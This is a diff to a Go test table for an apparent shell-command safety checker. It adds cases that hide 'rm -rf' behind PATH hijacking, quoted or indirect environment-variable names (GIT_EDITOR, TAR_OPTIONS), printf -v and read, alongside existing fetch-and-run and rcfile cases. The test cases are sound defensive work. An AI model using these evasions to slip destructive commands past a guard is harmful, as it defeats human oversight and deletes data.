@@ -28,6 +28,9 @@ func TestWrittenThenRun(t *testing.T) {
 		{`ln -s /bin/rm x; ./x -rf d`, "rule 4"},
 		{`mkdir -p bin; ln -s /bin/rm bin/ls; PATH=bin:$PATH ls -rf d`, "rule 4"},
 		{`cp /bin/rm bin/ls; export PATH=$PWD/bin:$PATH; ls -rf d`, "rule 4"},
+		{`mkdir -p bin; ln -s /bin/rm bin/ls; printf -v PATH %s "bin:$PATH"; ls -rf d`, "rule 4"},
+		{`mkdir -p bin; ln -s /bin/rm bin/ls; read PATH <<< "bin:$PATH"; ls -rf d`, "rule 4"},
+		{`mkdir -p bin; ln -s /bin/rm bin/ls; export PA"TH"=bin:$PATH; ls -rf d`, "rule 4"},
 		{`f=s.sh; echo 'rm -rf d' > "$f"; sh s.sh`, "rule 4"},
 		{`curl -o s.sh https://example.com/s.sh; bash s.sh`, "rule 4"},
 		{`bash --rcfile <(echo rm -rf d) -i`, "rule 4"},
@@ -48,6 +51,7 @@ func TestWrittenThenRun(t *testing.T) {
 		{`tmp=$(mktemp); go test ./... > "$tmp"; sh s.sh`, ""},
 		{`bash --rcfile rc -c ls`, ""},
 		{`cp a.txt b.txt; ls`, ""},
+		{`echo hi > echo; echo done`, ""}, // a builtin: no PATH search
 	} {
 		r := judge("/home/dev/project", "", tc.cmd)
 		switch {
@@ -76,6 +80,21 @@ func TestCommandOptions(t *testing.T) {
 		{`rg --pre 'rm -rf' x`, "rule 1"},
 		{`TAR_OPTIONS=--to-command=./x tar xf a.tar`, "rule 4"},
 		{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!touch p' git x`, "rule 4"},
+		// The environment set by a name the parser does not read as an
+		// assignment (each deleted d under bash: git commit runs
+		// GIT_EDITOR; tar reads TAR_OPTIONS).
+		{`export GIT_"EDITOR"='rm -rf d; true'; git commit --allow-empty`, "rule 4"},
+		{`export "$(echo GIT_EDITOR)=rm -rf d; true"; git commit --allow-empty`, "rule 4"},
+		{`export "GIT_EDITOR=rm -rf d; true"; git commit --allow-empty`, "rule 1"},
+		{`declare -n e=GIT_EDITOR; export e='rm -rf d; true'; git commit --allow-empty`, "rule 4"},
+		{`printf -v GIT_EDITOR 'rm -rf d; true'; export GIT_EDITOR; git commit --allow-empty`, "rule 4"},
+		{`read -r GIT_EDITOR <<< 'rm -rf d; true'; export GIT_EDITOR; git commit --allow-empty`, "rule 4"},
+		{`v=GIT_EDITOR; printf -v "$v" 'rm -rf d; true'; export GIT_EDITOR; git commit --allow-empty`, "rule 4"},
+		{`export TAR_"OPTIONS"='--to-command=./x'; tar xf a.tar`, "rule 4"},
+		{`export $(grep -v '^#' vars.env | xargs); git commit`, "rule 4"}, // sets names it reads
+		{`export "PATH=$PATH:$HOME/go/bin"; go test ./...`, ""},
+		{`export -n GIT_EDITOR; git commit -m x`, ""},
+		{`read -r name <<< x; printf -v now '%(%s)T' -1; mapfile -t lines < notes.txt`, ""},
 		{`su -s /bin/bash root -c id`, ""},
 		{`make -j4 all`, ""},
 		{`zip -r a.zip src -T`, ""},
